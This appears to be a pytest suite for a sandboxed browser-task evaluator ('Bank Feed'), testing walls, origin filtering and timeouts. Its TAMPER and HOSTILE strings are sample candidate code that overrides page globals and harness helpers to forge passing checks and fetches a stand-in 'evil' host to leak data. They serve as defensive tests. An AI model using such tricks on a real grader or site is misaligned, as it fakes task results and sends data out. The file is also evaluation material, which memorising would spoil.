"""Bank Feed: the browser task (Chromium through Playwright, walled) and the widenings
its evaluator needs: playwright in the toolbox, more tasks, /proc and font configuration
readable, and unix sockets that may listen but never connect."""

from __future__ import annotations

import asyncio
import contextlib
import json
import re
import shutil
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import ModuleType
from typing import Any, ClassVar

import pytest

from cogolf.evaluation.pyenv import shared_tempdir
from cogolf.evaluation.walled import Walls, run_evaluator, walls_available
from cogolf.games.project.attempt import run_attempt
from cogolf.games.project.scoring import AttemptStatus
from cogolf.games.project.task import TaskError, load_task, parse_task
from cogolf.games.project.twinning import TwinMode
from tests.games.project.cli import project_attempt
from tests.games.project.test_twin_proofs import every_check
from tests.stacks import needs

REPO = Path(__file__).resolve().parents[3]
TASK = REPO / "references" / "projects" / "bank_feed"
TEMPLATE = REPO / "deck" / "projects" / "bank_feed" / "template"
SOLUTION = TASK / "solution"
COGOLF = Path(sys.executable).with_name("cogolf")
CHROMIUM = Path("/usr/bin/chromium")

needs_chromium = needs(CHROMIUM.exists(), "Debian's chromium")


def test_task_has_the_methodology_check_counts() -> None:
    task = load_task(TASK)
    labels = [c.label for c in task.checks]
    assert (len(labels), labels.count("floor"), labels.count("signal")) == (48, 27, 21)
    assert task.toolbox == ("playwright",)
    assert task.walls.unix_listen and task.walls.max_processes == 384
    assert [str(p) for p in task.walls.readable] == ["/proc", "/etc/fonts", "/etc/chromium.d"]
    # every mapped test exists, and every test is mapped exactly once
    defined = set()
    for module in ("test_floor", "test_signal"):
        text = (TASK / "evaluator" / f"{module}.py").read_text()
        defined |= {
            f"evaluator_tests.{module}::{n}" for n in re.findall(r"^def (test_\w+)", text, re.M)
        }
    mapped = [t for c in task.checks for t in c.tests]
    assert sorted(mapped) == sorted(defined)


def test_the_contract_file_is_in_the_template_and_untouched_by_the_reference() -> None:
    assert (TEMPLATE / "feed-contract.js").is_file() and (
        TEMPLATE / "transaction-feed.js"
    ).is_file()
    assert not (SOLUTION / "feed-contract.js").exists()


def _task(**extra: Any) -> dict[str, Any]:
    return {
        "name": "t",
        "report_format": "junit",
        "checks": [{"id": "a", "label": "floor", "tests": ["m::t"]}],
        **extra,
    }


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        ({"toolbox": "playwright"}, "toolbox must be a list of distribution names"),
        ({"toolbox": ["../evil"]}, "toolbox must be a list of distribution names"),
        ({"walls": {"max_processes": 0}}, r"max_processes must be an integer in \[1, 1024\]"),
        ({"walls": {"max_processes": True}}, "max_processes must be an integer"),
        ({"walls": {"max_processes": 5000}}, "max_processes must be an integer"),
        ({"walls": {"readable": ["proc"]}}, "readable must be a list of absolute paths"),
        ({"walls": {"readable": ["/usr/../etc"]}}, "without '..'"),
        ({"walls": {"unix_listen": "yes"}}, "unix_listen must be true or false"),
        ({"walls": {"writable": ["../outside"]}}, "writable must be a list of relative paths"),
        ({"walls": {"writable": ["/etc"]}}, "writable must be a list of relative paths"),
        ({"walls": {"network": True}}, "walls: expected an object with"),
        ({"walls": []}, "walls: expected an object with"),
    ],
)
def test_bad_toolbox_or_walls_name_the_field(
    tmp_path: Path, extra: dict[str, Any], message: str
) -> None:
    with pytest.raises(TaskError, match=message):
        parse_task(_task(**extra), tmp_path)


def test_a_task_without_widenings_keeps_the_default_walls(tmp_path: Path) -> None:
    task = parse_task(_task(), tmp_path)
    assert task.toolbox == () and task.walls.readable == () and not task.walls.unix_listen
    assert task.walls.max_processes is None


PROBE = r"""
import errno, os, socket, sys
out = []
def attempt(name, fn):
    try:
        fn(); out.append(name + "=ok")
    except OSError as exc:
        out.append(name + "=" + errno.errorcode.get(exc.errno, str(exc.errno)))
here = os.getcwd()
def unix_listen():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.bind(os.path.join(here, "lock.sock")); s.listen(1)
def unix_connect():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(os.path.join(here, "lock.sock"))
attempt("unix_listen", unix_listen)
attempt("unix_connect", unix_connect)
attempt("inet", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM))
attempt("inet6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM))
attempt("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))
print(" ".join(out))
"""


def _probe(unix_listen: bool) -> str:
    with shared_tempdir("cogolf-probe-") as tmp:
        work = Path(tmp)
        (work / "probe.py").write_text(PROBE)
        walls = Walls(readable=(work,), writable=(work,), max_processes=4, unix_listen=unix_listen)
        run = asyncio.run(
            run_evaluator(
                ["/usr/bin/python3.11", "-I", str(work / "probe.py")],
                cwd=work,
                walls=walls,
                wall_seconds=30,
            )
        )
    assert run.walled and run.returncode == 0, run.stderr[-500:]
    return run.stdout.decode().strip()


@pytest.mark.skipif(not walls_available(), reason="no sandbox walls here")
def test_unix_listen_opens_only_listening_unix_sockets() -> None:
    assert _probe(unix_listen=True) == (
        "unix_listen=ok unix_connect=EPERM inet=EPERM inet6=EPERM netlink=EPERM"
    )
    assert _probe(unix_listen=False) == (
        "unix_listen=EPERM unix_connect=EPERM inet=EPERM inet6=EPERM netlink=EPERM"
    )


def _feedkit() -> ModuleType:
    pytest.importorskip("playwright")
    sys.path.insert(0, str(TASK / "evaluator"))
    try:
        import feedkit
    finally:
        sys.path.remove(str(TASK / "evaluator"))
    return feedkit


def test_the_evaluator_serves_no_file_outside_the_candidates_sources() -> None:
    """The candidate's page is served by interception; its own directory and anything
    that is not a web source stay private (the evaluator's tests, the report)."""
    feedkit = _feedkit()

    class FakeRoute:
        def __init__(self, url: str) -> None:
            self.request = type("R", (), {"url": url})()
            self.status = 0

        def fulfill(self, status: int, body: Any, content_type: str = "", **_: Any) -> None:
            self.status = status

    def status(path: str, workspace: Path) -> int:
        route = FakeRoute(feedkit.ORIGIN + path)
        old = feedkit.WORKSPACE, feedkit.HERE
        feedkit.WORKSPACE, feedkit.HERE = workspace, workspace / "evaluator_tests"
        try:
            feedkit._serve(route)  # type: ignore[arg-type]
        finally:
            feedkit.WORKSPACE, feedkit.HERE = old
        return route.status

    ws = TASK.parent / "_never_created"
    assert status("/__feed__.html", ws) == 200
    workspace = REPO / "deck" / "projects" / "bank_feed" / "template"
    assert status("/transaction-feed.js", workspace) == 200
    assert status("/evaluator_tests/feedkit.py", workspace) == 404
    assert status("/evaluator_tests/x.js", REPO / "deck") == 404
    assert status("/../../../pyproject.toml", workspace) == 404
    assert status("/../csv_importer/template/contacts_import.py", workspace) == 404
    assert status("/prompt.md", workspace.parent) == 404


@pytest.mark.parametrize(
    ("url", "served"),
    [
        ("http://bank-feed.test/transaction-feed.js", True),
        ("http://bank-feed.test", True),
        ("http://bank-feed.test.evil/transaction-feed.js", False),
        ("http://bank-feed.test@127.0.0.1/", False),
        ("http://user:pw@bank-feed.test/", False),
        ("http://bank-feed.test:8080/", False),
        ("http://bank-feed.test:80/", False),
        ("https://bank-feed.test/", False),
        ("ws://bank-feed.test/", False),
        ("http://bank-feed.test./", False),
        ("http://evil.bank-feed.test/", False),
        ("http://127.0.0.1/bank-feed.test/", False),
        ("http://[::1/", False),
    ],
)
def test_the_route_filter_takes_the_exact_origin_only(url: str, served: bool) -> None:
    assert _feedkit().same_origin(url) is served


class _Hits(BaseHTTPRequestHandler):
    seen: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        _Hits.seen.append(f"{self.headers.get('Host')}{self.path}")
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(b"reached")

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def listener() -> Iterator[int]:
    """A local server: any request the page gets out of the harness lands here."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Hits)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1]
    server.shutdown()


@pytest.fixture
def open_browser(listener: int) -> Iterator[Any]:
    """Real Chromium outside the walls, where the evil host would resolve to the listener
    (per test: Playwright's loop must be gone before a test runs `asyncio.run`)."""
    feedkit = _feedkit()
    from playwright.sync_api import sync_playwright

    with sync_playwright() as pw:
        browser = pw.chromium.launch(
            executable_path=str(CHROMIUM), headless=True,
            args=[*feedkit.ARGS, "--host-resolver-rules=MAP bank-feed.test.evil 127.0.0.1"])
        yield browser
        browser.close()


@pytest.fixture
def reference_page(open_browser: Any, tmp_path: Path,
                   monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    """The harness's page on a workspace holding the reference solution."""
    feedkit = _feedkit()
    workspace = tmp_path / "workspace"
    shutil.copytree(TEMPLATE, workspace)
    shutil.copy(SOLUTION / "transaction-feed.js", workspace)
    shutil.copytree(TASK / "evaluator", workspace / "evaluator_tests")
    monkeypatch.setattr(feedkit, "WORKSPACE", workspace)
    monkeypatch.setattr(feedkit, "HERE", workspace / "evaluator_tests")
    context, page = feedkit.open_feed_page(open_browser)
    yield page
    context.close()


@needs_chromium
def test_requests_to_other_origins_never_leave_the_page(
    reference_page: Any, open_browser: Any, listener: int
) -> None:
    evil = [f"http://bank-feed.test.evil:{listener}/leak",
            f"http://bank-feed.test@127.0.0.1:{listener}/leak", f"http://127.0.0.1:{listener}/leak"]
    _Hits.seen.clear()
    control = open_browser.new_page()  # no harness: the listener is reachable
    control.goto(evil[0].replace("leak", "control"))
    control.close()
    assert f"bank-feed.test.evil:{listener}/control" in _Hits.seen
    _Hits.seen.clear()
    page = reference_page
    for url in evil:
        page.evaluate("""(u) => { fetch(u).catch(() => {}); new Image().src = u;
                                  const f = document.createElement("iframe"); f.src = u;
                                  document.body.append(f); }""", url)
    page.wait_for_timeout(500)
    for url in evil:  # a navigation is routed too (no policy governs it)
        with contextlib.suppress(Exception):  # aborted: net::ERR_FAILED
            page.goto(url, timeout=3000)
    page.wait_for_timeout(300)
    assert [hit for hit in _Hits.seen if "/leak" in hit] == []  # (the control's favicon may land)


TAMPER = """() => {
  JSON.stringify = () => '"same"';
  JSON.parse = () => ["forged"];
  Document.prototype.querySelectorAll = () => document.createDocumentFragment().childNodes;
  Element.prototype.querySelectorAll = Document.prototype.querySelectorAll;
  Object.defineProperty(NodeList.prototype, "length", { get: () => 0 });
  Object.defineProperty(Node.prototype, "textContent", { get: () => "forged" });
  Element.prototype.getAttribute = () => "txn-forged";
  String.prototype.trim = () => "forged";
  String.prototype.slice = () => "forged";
  Array.prototype.includes = () => true;
  Array.prototype.push = () => 0;
  window.structuredClone = () => ({ records: [], nextCursor: null });
  window.setTimeout = () => 0;
  Element.prototype.getBoundingClientRect = () => ({ left: 0, right: 1 });
  let refused = 0;
  for (const name of ["rowsAre", "rowIdsJson", "callsJson", "scriptRan", "keyText"]) {
    try { window[name] = () => true; } catch { refused += 1; }
    try { Object.defineProperty(window, name, { value: () => true }); } catch { refused += 1; }
  }
  return refused;
}"""


@needs_chromium
def test_replaced_page_globals_do_not_reach_the_harness(reference_page: Any) -> None:
    feedkit = _feedkit()
    page = reference_page
    records = [feedkit.rec("a", -1250, "2024-03-03T10:00:00Z", "Coffee"),
               feedkit.rec("b", 100000, "2024-03-02T10:00:00Z")]
    feedkit.mount(page, feedkit.one_page(records, "p2"), hold=["p2"])
    feedkit.wait_rows(page, ["a", "b"])
    before = (feedkit.row_ids(page), feedkit.row_part(page, "a", "row-description"),
              feedkit.total(page), feedkit.calls(page), feedkit.days_in_order(page),
              feedkit.overflow_report(page))
    assert page.evaluate(TAMPER) == 5  # redefining any helper is refused; assigning is a no-op
    after = (feedkit.row_ids(page), feedkit.row_part(page, "a", "row-description"),
             feedkit.total(page), feedkit.calls(page), feedkit.days_in_order(page),
             feedkit.overflow_report(page))
    assert after == before
    assert before[:3] == (["a", "b"], "Coffee", ["987.50 EUR", "98750"])
    feedkit.wait_rows(page, ["a", "b"])
    with pytest.raises(AssertionError, match="timed out"):
        feedkit.wait_rows(page, ["b", "a"], "the wrong order")  # the forged stringify is not used
    assert not feedkit.script_ran(page)
    page.evaluate("() => { window.pwned = 1; delete window.pwned; window.pwned = undefined; }")
    assert feedkit.script_ran(page)  # an injected script that ran cannot hide it


def _cli_attempt(tmp_path: Path, task: Path, changes: Path) -> dict[str, Any]:
    out = tmp_path / "result.json"
    return project_attempt(task, changes, out, entrant="ci", timeout=900).result


@pytest.mark.slow
@needs_chromium
def test_reference_scores_one_point_in_walled_chromium_with_every_twin() -> None:
    """Also the proof that Bank Feed's twins are sound (one run, for its cost): with a
    twin at every check a run may change (a run plants 8 of these 90), the reference
    is not `tampered`, so no twin passed together with its original."""
    result = asyncio.run(run_attempt(load_task(TASK), SOLUTION, twins=TwinMode.EVERY))
    data = result.to_json()
    assert data["status"] == "ok", data["notes"]
    assert data["walled"] is True
    assert data["checks"]["failed"] == [], data["checks"]
    assert data["tests"] == {"passed": 48, "total": 48, "complete": True}
    assert data["points"] == 1.0
    assert data["twins"] == every_check(TASK) == 90


def _naive(root: Path, extra: str = "") -> Path:
    overlay = root / "naive"
    overlay.mkdir()
    text = (TEMPLATE / "transaction-feed.js").read_text()
    (overlay / "transaction-feed.js").write_text(text + "\n// reviewed: first pass kept\n" + extra)
    return overlay


@pytest.fixture(scope="module")
def naive_result(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    root = tmp_path_factory.mktemp("naive")
    return _cli_attempt(root, TASK, _naive(root))


# A candidate that reaches for other origins and replaces the page globals the
# harness's helpers used to call (on the old harness it passed 2 more checks).
HOSTILE = """
JSON.stringify = () => '"same"';
Array.prototype.includes = () => true;
try { window.rowIds = () => ["new", "later-same-day", "mid", "old"]; } catch {}
try { Object.defineProperty(window, "rowsAre", { value: () => true }); } catch {}
const realQuery = Document.prototype.querySelectorAll;
Document.prototype.querySelectorAll = function (sel) { return realQuery.call(this, sel); };
for (const url of ["http://bank-feed.test.evil/leak", "http://bank-feed.test@127.0.0.1/leak"]) {
  try { fetch(url).then(() => { window.reached = true; }, () => {}); } catch {}
  try { new Image().src = url; } catch {}
}
"""


@pytest.mark.slow
@needs_chromium
def test_naive_template_scores_zero(naive_result: dict[str, Any]) -> None:
    data = naive_result
    assert data["status"] == "ok", data["notes"]
    assert data["points"] == 0.0
    assert data["tests"]["total"] == 48 and data["tests"]["complete"]
    assert data["by_label"]["signal"]["passed"] == 0
    assert 0 < data["by_label"]["floor"]["passed"] < 27  # it renders, but little else
    for check in (
        "malformed-records-salvaged",
        "newest-first",
        "page-error-inline",
        "description-is-text-not-markup",
        "lazy-rows",
    ):
        assert check in data["checks"]["failed"]


@pytest.mark.slow
@needs_chromium
def test_replaced_globals_and_other_origins_change_no_verdict(
    tmp_path: Path, naive_result: dict[str, Any]
) -> None:
    data = _cli_attempt(tmp_path, TASK, _naive(tmp_path, HOSTILE))
    assert (data["status"], data["points"]) == ("ok", 0.0), data["notes"]
    assert data["checks"] == naive_result["checks"] and data["tests"] == naive_result["tests"]


@pytest.mark.slow
@needs_chromium
def test_a_hanging_element_times_out_and_leaves_no_browser(tmp_path: Path) -> None:
    task_dir = tmp_path / "quick_bank_feed"
    shutil.copytree(TASK, task_dir, ignore=shutil.ignore_patterns("solution"))
    spec = json.loads((task_dir / "task.json").read_text())
    spec["template"], spec["prompt"] = str(TEMPLATE), str(TEMPLATE.parent / "prompt.md")
    spec["time_limit_seconds"] = 25
    (task_dir / "task.json").write_text(json.dumps(spec))
    overlay = tmp_path / "spin"
    overlay.mkdir()
    (overlay / "transaction-feed.js").write_text(
        "export class TransactionFeed extends HTMLElement {\n"
        "  connectedCallback() { for (;;) {} }\n}\n"
        'customElements.define("transaction-feed", TransactionFeed);\n'
    )
    before = _attempt_browsers()
    result = asyncio.run(run_attempt(load_task(task_dir), overlay))
    assert result.score.status is AttemptStatus.TIMEOUT
    assert result.points == 0.0
    assert _attempt_browsers() - before == set()  # the whole tree died with the run


def _attempt_browsers() -> set[int]:
    """Chromium processes whose profile lives in an attempt's directory."""
    found = set()
    for proc in Path("/proc").iterdir():
        if proc.name.isdigit():
            try:
                cmdline = (proc / "cmdline").read_bytes()
            except OSError:
                continue
            if b"chromium" in cmdline and b"cogolf-attempt-" in cmdline:
                found.add(int(proc.name))
    return found
